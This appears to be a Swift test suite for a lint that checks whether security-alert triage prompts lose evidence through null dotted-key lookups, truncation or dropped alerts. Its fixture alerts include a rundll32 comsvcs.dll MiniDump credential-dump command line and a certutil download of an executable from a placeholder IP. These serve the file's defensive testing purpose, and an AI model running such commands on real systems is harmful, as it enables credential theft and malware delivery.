import Testing
@testable import TriageEval

/// Issue 13 item 8: the context-loss lint over hand-made documents — `.get` fields that came out None (the
/// dotted-key trap vs an absent field), evidence values cut by a truncation or never in the prompt.
@Suite struct ContextLossLintTests {
    static func prompt(_ body: String) throws -> PromptVersion {
        try PromptFileParser.parse("---\nid: p\nversion: v1\nentity: host\noutput:\n  format: json\n---\n" + body, file: "p.prompt", defaults: AlertPolicy())
    }

    /// Two alerts: the first nests `host`, holds a long command line and a short path; the second another command line.
    static func item(id: String = "c1", _ documents: [String]) -> TriageCase {
        var item = TriageCase(
            id: id, label: .tp, scenario: "s", entity: Entity(type: .host, name: "WS-01"), alertCount: documents.count, timeWindowMinutes: 1,
            maxRiskScore: 73, rules: ["R"]
        )
        item.documents = documents.enumerated().map { CaseDocument(index: ".alerts-security.alerts-default", id: "\(id)-\($0.offset + 1)", source: $0.element) }
        return item
    }

    static let first = #"{"kibana.alert.rule.name":"R","host":{"name":"ws-01"},"process.command_line":"C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\x.dmp full","file.path":"C:\\Windows\\Temp\\x.dmp"}"#
    static let second = #"{"kibana.alert.rule.name":"R","process":{"command_line":"certutil.exe -urlcache -split -f http://203.0.113.9/a.exe"}}"#

    @Test("a dotted .get on a nested document is the trap; a field the document lacks is only absent")
    func nullFields() throws {
        let prompt = try Self.prompt(#"{{#python}}json.dumps({"host": alert.get("host.name"), "sev": alert.get("kibana.alert.severity"), "rule": alert.get("kibana.alert.rule.name")}){{/python}}"#)
        let loss = try #require(try ContextLossLint.check(prompt, Self.item([Self.first, Self.second])))
        #expect(loss.nullFields == [
            ContextLoss.NullField(key: "host.name", nestedValue: "ws-01"),
            ContextLoss.NullField(key: "kibana.alert.severity", nestedValue: nil),
        ])
        #expect(loss.dottedKeyTraps.map(\.key) == ["host.name"])
        // Nothing of the evidence was rendered, and nothing was cut: every value is "never".
        #expect(loss.cuts == 0)
        #expect(loss.evidence.map(\.fate) == [.absent, .absent, .absent])
    }

    @Test("a string cut at N: values beyond it are cut, values before it shown (found in their json.dumps spelling)")
    func truncatedString() throws {
        let prompt = try Self.prompt(#"{{#python}}json.dumps(alert, indent=2)[:160]{{/python}}"#)
        let loss = try #require(try ContextLossLint.check(prompt, Self.item([Self.first, Self.second])))
        #expect(loss.cuts == 1)
        // The command line starts within the first 160 characters but ends beyond: cut. The path and the second
        // alert's command line are not in the prompt; the path was in the cut text, the second alert never rendered.
        #expect(loss.evidence.map(\.field) == ["process.command_line", "file.path", "process.command_line"])
        #expect(loss.evidence.map(\.fate) == [.cut, .cut, .absent])

        let whole = try Self.prompt(#"{{#python}}json.dumps(alert, indent=2)[:3000]{{/python}}"#)
        let kept = try #require(try ContextLossLint.check(whole, Self.item([Self.first, Self.second])))
        #expect(kept.cuts == 0)
        #expect(kept.evidence.map(\.fate) == [.shown, .shown, .absent])
    }

    @Test("alerts[:1] drops the second alert: its evidence is cut; all alerts show everything")
    func droppedItems() throws {
        let sliced = try Self.prompt(#"{{#python}}json.dumps(alerts[:1]){{/python}}"#)
        let loss = try #require(try ContextLossLint.check(sliced, Self.item([Self.first, Self.second])))
        #expect(loss.evidence.map(\.fate) == [.shown, .shown, .cut])
        let all = try Self.prompt(#"{{#python}}json.dumps(alerts, ensure_ascii=False){{/python}}"#)
        let clean = try #require(try ContextLossLint.check(all, Self.item([Self.first, Self.second])))
        #expect(clean.isClean)
        #expect(clean.evidence.count == 3)
    }

    @Test("a structured template shows raw values; a case without documents is not linted")
    func structuredTemplate() throws {
        let prompt = try Self.prompt("Host {{host_name}} ran {{cmdlines_str}} files {{files_str}}")
        var item = Self.item([Self.first])
        item.commandLines = [#"C:\Windows\System32\rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\x.dmp full"#]
        item.filePaths = [#"C:\Windows\Temp\x.dmp"#]
        let loss = try #require(try ContextLossLint.check(prompt, item))
        #expect(loss.isClean)
        item.documents = nil
        #expect(try ContextLossLint.check(prompt, item) == nil)
    }

    @Test("the summary counts per case and gives rates per prompt; undefined rates are nil")
    func summary() throws {
        let prompt = try Self.prompt(#"host={{#python}}json.dumps(alert.get("host.name")){{/python}} context={{#python}}json.dumps(alert)[:60]{{/python}}"#)
        let cases = [
            Self.item(id: "a", [Self.first, Self.second]),
            Self.item(id: "b", [#"{"host.name":"ws-02","file.path":"/tmp/x"}"#]),
            Self.item(id: "c", [#"{"message":"no evidence here"}"#]),
        ]
        let summary = try #require(ContextLossLint.summarize(prompt, over: cases))
        #expect(summary.renders == 3)
        #expect(summary.rendersWithNullFields == 2)  // a (nested host) and c (no host at all)
        #expect(summary.rendersWithDottedKeyTrap == 1)
        #expect(summary.dottedKeyTrapRate == 1.0 / 3.0)
        #expect(summary.evidence == 4)
        // a: both command lines and the path are lost (two cut, the second alert's never rendered); b: the path is shown.
        #expect(summary.evidenceCut == 2)
        #expect(summary.evidenceAbsent == 1)
        #expect(summary.evidenceCutRate == 0.5)
        #expect(summary.nullFieldCounts.map(\.key) == ["host.name"])
        #expect(summary.nullFieldCounts.first?.renders == 2 && summary.nullFieldCounts.first?.trap == 1)
        let none = try #require(ContextLossLint.summarize(prompt, over: [cases[2]]))
        #expect(none.evidenceCutRate == nil)
    }
}
